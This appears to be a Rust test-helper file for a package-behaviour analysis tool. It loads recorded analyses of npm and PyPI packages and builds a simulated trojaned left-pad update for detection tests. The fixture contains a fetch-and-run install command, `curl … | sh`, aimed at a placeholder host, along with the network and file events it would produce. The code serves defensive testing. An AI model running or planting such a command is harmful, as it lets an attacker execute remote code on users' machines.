//! Shared helpers of the integration tests: the recorded fixtures.

#![allow(dead_code)]

use std::io::Read;
use std::path::PathBuf;

use paddock_proto::v1::{DynamicResult, StaticResult};

/// The recorded `paddock analyze … --format json` outputs.
pub const LEFT_PAD: &str = "npm-left-pad-1.3.0.json.gz";
pub const SIX: &str = "pypi-six-1.17.0.json.gz";
pub const EXPRESS: &str = "npm-express-5.3.0.json.gz";

/// A fixture's JSON text.
pub fn fixture_text(name: &str) -> String {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name);
    let bytes = std::fs::read(&path).unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
    let mut text = String::new();
    flate2::read::GzDecoder::new(&bytes[..])
        .read_to_string(&mut text)
        .unwrap_or_else(|e| panic!("decompressing {}: {e}", path.display()));
    text
}

/// The static and dynamic results of `{"static": …, "dynamic": …}`.
pub fn parse(text: &str) -> (StaticResult, DynamicResult) {
    let (s, d) = paddock_diff::results_from_json(text).expect("a fixture is analyze's JSON");
    (s, d.expect("a fixture has `dynamic`"))
}

/// A fixture's results.
pub fn fixture(name: &str) -> (StaticResult, DynamicResult) {
    parse(&fixture_text(name))
}

/// The merged profile of a static and a dynamic result.
pub fn profile_of(r: &(StaticResult, DynamicResult)) -> paddock_diff::Profile {
    let mut p = paddock_diff::from_static(&r.0);
    p.merge(paddock_diff::from_dynamic(&r.1));
    p
}

/// Items as `kind phase value` lines.
pub fn lines(p: &paddock_diff::Profile) -> Vec<String> {
    p.items
        .keys()
        .map(|k| format!("{} {} {}", k.kind.token(), k.phase.token(), k.value))
        .collect()
}

/// left-pad 1.3.0 as recorded, and a trojaned 1.3.1: the same release
/// with, at install time, `sh -c "curl -s http://x.example/p.sh | sh"`
/// (run by npm as an install script), a connection to x.example:80, its
/// DNS query, /tmp/p.sh written and then run.
pub fn left_pad_and_trojaned_update(
) -> ((StaticResult, DynamicResult), (StaticResult, DynamicResult)) {
    use paddock_proto::v1::{Command, DnsQuery, FileEvent, FileOp, Process, Socket, SocketOp};

    let text = fixture_text(LEFT_PAD);
    let previous = parse(&text);
    let mut next = parse(&text.replace("1.3.0", "1.3.1"));
    let install = &mut next.1.phases[0];
    let npm = install
        .processes
        .iter()
        .find(|p| p.parent_pid == 1)
        .expect("the driver launched npm")
        .pid;
    let last = install.file_events.iter().map(|e| e.seq).max().unwrap_or(0);
    let script = vec![
        "sh".to_owned(),
        "-c".to_owned(),
        "curl -s http://x.example/p.sh | sh".to_owned(),
    ];
    install.processes.push(Process {
        pid: 900,
        parent_pid: npm,
        executable: "/bin/sh".into(),
        argv: script.clone(),
        first_seq: last + 1,
        ..Default::default()
    });
    install.commands.push(Command {
        seq: last + 1,
        pid: 900,
        parent_pid: npm,
        argv: script,
        ..Default::default()
    });
    install.dns.push(DnsQuery {
        hostname: "x.example".into(),
        types: vec!["A".into()],
        answered: true,
        ..Default::default()
    });
    install.sockets.push(Socket {
        seq: last + 3,
        pid: 901,
        op: SocketOp::Connect.into(),
        family: "AF_INET".into(),
        protocol: "tcp".into(),
        address: "10.232.0.1".into(),
        port: 80,
        hostnames: vec!["x.example".into()],
        ..Default::default()
    });
    install.file_events.push(FileEvent {
        seq: last + 4,
        pid: 902,
        op: FileOp::Create.into(),
        path: "/tmp/p.sh".into(),
        result: 3,
        ..Default::default()
    });
    install.commands.push(Command {
        seq: last + 5,
        pid: 903,
        parent_pid: 900,
        argv: vec!["sh".into(), "/tmp/p.sh".into()],
        ..Default::default()
    });
    (previous, next)
}
